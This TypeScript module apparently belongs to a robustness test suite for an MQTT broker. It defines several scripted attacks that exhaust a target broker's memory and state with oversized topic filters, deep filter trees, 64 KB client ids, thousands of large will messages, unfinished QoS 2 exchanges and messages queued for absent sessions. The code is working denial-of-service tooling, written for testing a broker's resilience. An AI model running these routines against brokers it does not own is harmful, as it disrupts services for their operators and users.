/** Clients that have the server keep something for them: filters, ids, wills, numbers, messages. */
import type { Attack } from './attack.ts';
import { again, openRaw, publish, rest, subscribeTo } from './raw-mqtt.ts';

const ATTACK_MS = 8_000;
const KIB = 1024;

/** Issue 22, 4: eight persistent sessions with 1,000 filters of 60 KB each. */
export const filters: Attack = {
  name: 'filters',
  async run(target, signal) {
    const clients = Array.from({ length: 8 }, (_, i) => openRaw(target, { id: `filters-${i}`, isClean: false }));
    await again(
      async (line, round) => {
        const client = clients[line];
        const filter = `${line}/${round}/${'f'.repeat(60 * KIB)}`;
        if (round < 1_000 && client?.isOpen()) await client.send(subscribeTo([filter]));
        else await rest(100, signal);
      },
      { lines: clients.length, ms: 2 * ATTACK_MS, signal },
    );
    for (const client of clients) client.vanish();
    return '8 persistent sessions, up to 1,000 filters of 60 KB each';
  },
};

/** Each level of a filter is a node of the index. */
export const deepFilters: Attack = {
  name: 'deep filters',
  async run(target, signal) {
    const opened = await again(
      async (line, round) => {
        const client = openRaw(target, { id: `deep-${line}-${round}`, isClean: false });
        for (let i = 0; i < 1_000 && client.isOpen() && !signal.aborted; i += 100) {
          const some = Array.from({ length: 100 }, (_, n) => `${line}${round}/${i + n}${'/x'.repeat(90)}`);
          await client.send(subscribeTo(some));
        }
        await rest(50, signal);
        client.vanish();
      },
      { lines: 20, ms: ATTACK_MS, signal },
    );
    return `${opened} persistent sessions with 1,000 filters of 92 levels each`;
  },
};

/** Issue 22, 8: an id of 64 KB stood in two lines of the log a connection. */
export const ids: Attack = {
  name: 'ids',
  async run(target, signal) {
    const id = 'i'.repeat(65_000);
    const opened = await again(
      async (line, round) => {
        const client = openRaw(target, { id: `${line}-${round}-${id}`, isClean: round % 2 === 0 });
        await client.send(subscribeTo([`$SYS/${id.slice(0, 60_000)}`, `ids/${line}`]));
        await client.send(publish({ topic: `aimak/v1/${id.slice(0, 60_000)}`, payload: Buffer.from('{}') }));
        await rest(5, signal);
        client.vanish();
      },
      { lines: 20, ms: ATTACK_MS, signal },
    );
    return `${opened} connections with an id, a filter and a topic of 60 KB`;
  },
};

export const manySessions: Attack = {
  name: 'sessions',
  async run(target, signal) {
    const opened = await again(
      async (line, round) => {
        const client = openRaw(target, { id: `many-${line}-${round}-${'s'.repeat(200)}`, isClean: false });
        await client.send(subscribeTo([`many/${line}/${round}/#`, '#']));
        await rest(2, signal);
        client.vanish();
      },
      { lines: 30, ms: ATTACK_MS, signal },
    );
    return `${opened} persistent sessions that nobody returns to`;
  },
};

export const wills: Attack = {
  name: 'wills',
  async run(target, signal) {
    const will = { topic: `wills/${'w'.repeat(60_000)}`, payload: Buffer.alloc(65_000, 'w') };
    const clients = [];
    for (let i = 0; i < 3_000 && !signal.aborted; i++) {
      clients.push(openRaw(target, { id: `wills-${i}`, will: { ...will, topic: `${will.topic}${i}` } }));
      if (i % 50 === 49) await rest(20, signal);
    }
    await rest(3_000, signal);
    const held = clients.filter((client) => client.isOpen()).length;
    for (const client of clients) client.vanish();
    return `${clients.length} wills of 125 KB, ${held} of them held until all vanished at once`;
  },
};

export const numbers: Attack = {
  name: 'numbers of QoS 2',
  async run(target, signal) {
    const opened = await again(
      async (line, round) => {
        const client = openRaw(target, { id: `numbers-${line}-${round}`, isClean: false });
        const messages = Array.from({ length: 1_000 }, (_, i) =>
          publish({ topic: 'numbers', payload: Buffer.alloc(1), qos: 2, id: i + 1 }),
        );
        await client.send(Buffer.concat(messages));
        await rest(50, signal);
        client.vanish();
      },
      { lines: 20, ms: ATTACK_MS, signal },
    );
    return `${opened} sessions with 1,000 numbers of QoS 2 never completed`;
  },
};

/** Messages for sessions that are away. */
export const owed: Attack = {
  name: 'owed messages',
  async run(target, signal) {
    for (let i = 0; i < 20; i++) {
      const away = openRaw(target, { id: `away-${i}`, isClean: false });
      await away.send(subscribeTo(['owed/#']));
      await rest(20, signal);
      away.vanish();
    }
    const payload = Buffer.alloc(100 * KIB, 'o');
    const clients = Array.from({ length: 4 }, (_, i) => openRaw(target, { id: `owing-${i}` }));
    const sent = await again(
      async (line, round) => {
        await clients[line]?.send(publish({ topic: `owed/${round}`, payload, qos: 1, id: (round % 60_000) + 1 }));
        await rest(1, signal);
      },
      { lines: clients.length, ms: ATTACK_MS, signal },
    );
    for (const client of clients) client.vanish();
    return `${sent} messages of 100 KB for 20 sessions that are away`;
  },
};
